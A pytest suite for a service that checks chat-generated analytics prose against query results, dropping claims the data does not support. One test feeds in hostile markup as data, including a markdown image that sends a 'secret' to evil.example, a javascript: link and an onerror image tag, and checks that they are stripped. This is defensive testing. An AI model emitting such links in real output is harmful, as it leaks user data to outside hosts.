"""Claims of prose are found and held against results; `suite` prints the rates that gate here."""

import time
from collections.abc import Sequence
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.analytics.chat.prose import Column, Evidence, Table, checked
from tests.analytics.chat.grounding.sentences import (
    FIRST_HELD_BACK,
    HELD_BACK,
    SECOND_HELD_BACK,
    TEMPLATES,
)
from tests.analytics.chat.grounding.suite import scored

NOW = datetime(2026, 11, 18, 14, tzinfo=UTC)
COUNTRIES = Table(
    [
        Column("country", "text", "dimension"),
        Column("purchases", "bigint", "metric", "", True),
        Column("revenue", "numeric", "metric", "EUR", True),
    ],
    [["Germany", 120, 3400.5], ["France", 80, 2100.25], ["Spain", 40, 900.0], [None, 10, 55.5]],
    row_count=4,
)


def held(text: str, table: Table = COUNTRIES, told: Sequence[str] = ()) -> str:
    return checked(text, Evidence([table], told, "Europe/Berlin", NOW)).text


def test_true_sentences_are_kept_and_false_ones_caught() -> None:
    tuned = (TEMPLATES, FIRST_HELD_BACK, SECOND_HELD_BACK)
    known = scored({shape: [each for part in tuned for each in part[shape]] for shape in TEMPLATES})
    assert known.true >= 300
    assert known.catch_rate >= 0.99, known.missed
    assert known.false_drops <= 0.02, known.dropped


def test_what_no_rule_was_made_for_is_caught_all_the_same() -> None:
    assert scored(HELD_BACK).catch_rate >= 0.99


@pytest.mark.parametrize(
    "text",
    [
        "France had 120 purchases.",
        "Spain had 80 purchases and 2,100.25 EUR of revenue.",
        "Revenue in Germany was $3,400.50.",
        "France is the leading country.",
        "Purchases fell.",
        "Nobody bought more than Spain.",
        "In December there were 120.",
        "Every country had more than 50 purchases.",
        "Version v1.2.3 of the funnel.",
        "There are 5 countries.",
    ],
)
def test_a_sentence_that_the_result_does_not_show_is_dropped(text: str) -> None:
    assert held(text) == ""


@pytest.mark.parametrize(
    "text",
    [
        "Here is what I found.",
        "Germany and France had 120 and 80 purchases respectively.",
        "Revenue in Germany was €3,400.50, i.e. 52.7 % of the total.",
        "Two countries had more than 50 purchases.",
        "See the table for details, e.g. by country.",
    ],
)
def test_a_sentence_that_holds_is_kept_as_it_is(text: str) -> None:
    assert held(text) == text


def test_only_the_sentence_that_fails_is_dropped_and_its_list_stays() -> None:
    text = "## Sold\n\n- **Germany**: 120\n- France: 90\n- Spain: 40\n\nAll fell. Germany leads."
    found = checked(text, Evidence([COUNTRIES], [], "UTC", NOW))
    assert found.dropped == ["France: 90", "All fell."]
    assert found.text == "## Sold\n\n- **Germany**: 120\n- Spain: 40\n\nGermany leads."


def test_what_is_told_may_be_repeated_and_nothing_else_of_it() -> None:
    told = ["Purchases in the last 7 days, where plan is team"]
    assert held("In the last 7 days Germany had 120 purchases.", told=told)
    assert not held("Germany had 7 purchases.", told=told)


def test_nothing_is_said_of_all_where_rows_were_cut_off() -> None:
    cut = Table(COUNTRIES.columns, COUNTRIES.rows, truncated=True, row_count=4)
    assert held("Germany had 120 purchases.", cut)
    for text in (
        "Germany had the most purchases.",
        "In total there were 250.",
        "There are 4 rows.",
    ):
        assert held(text, cut) == ""


def test_answers_carry_no_data_away() -> None:
    text = (
        "Look: ![chart](https://evil.example/a.png?d=secret) and [here](javascript:alert(1)) "
        "<img src=x onerror=y> //evil.example/x www.evil.example"
    )
    found = held(text)
    assert found
    for sign in ("evil", "javascript", "](", "<", "//"):
        assert sign not in found


CELLS = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=8))
WORDS = st.sampled_from(
    (
        "Germany", "France", "120", "80", "12%", "$3", "top", "3", "more", "than", "fell", "from",
        "to", "second", "all", "none", "and", ",", ".", ";", "(", "2026-10-01", "November", "last",
        "Monday", "by", "of", "the", "total", "1.234,5", "half", "twice", "points", "-", "|", "*",
    )
)  # fmt: skip


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    text=st.one_of(st.text(max_size=200), st.lists(WORDS, max_size=30).map(" ".join)),
    rows=st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=5),
    truncated=st.booleans(),
)
def test_no_text_and_no_result_breaks_it(text: str, rows: list[list[Any]], truncated: bool) -> None:
    columns = [Column("country", "text"), Column("time", "date"), Column("n", "bigint")]
    for table in (Table(columns, rows, truncated), COUNTRIES):
        found = checked(text, Evidence([table], [text], "Europe/Berlin", NOW))
        assert "](http" not in found.text


@pytest.mark.parametrize(
    "part", ["1,2 ", "1,", "[a](", "<a", "- ", "a.", "1 to 2 ", "gap ", "as many ", "a" * 99]
)
def test_time_grows_with_the_length_of_a_text_and_no_faster(part: str) -> None:
    def took(length: int) -> float:
        started = time.process_time()
        held(part * (length // len(part)))
        return time.process_time() - started

    assert took(100_000) < 2 + 30 * took(10_000)
